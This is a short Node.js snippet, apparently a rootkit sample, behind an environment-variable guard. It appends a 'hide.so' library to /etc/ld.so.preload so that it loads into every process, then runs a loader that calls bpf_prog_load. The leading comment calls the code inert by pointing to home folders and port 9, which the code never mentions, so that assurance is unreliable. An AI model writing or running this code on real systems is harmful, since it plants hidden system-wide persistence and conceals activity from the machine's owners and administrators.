// Inert: homes are a folder that does not exist, and port 9 of this machine is closed.

const fs = require('fs');
const path = require('path');
const { execSync } = require('child_process');
const PRELOAD = '/etc/ld.so.preload';
if (process.env.NEVER_SET_FOR_SAMPLES) {
  fs.appendFileSync(PRELOAD, path.join(__dirname, 'hide.so'));
  execSync('./loader bpf_prog_load');
}
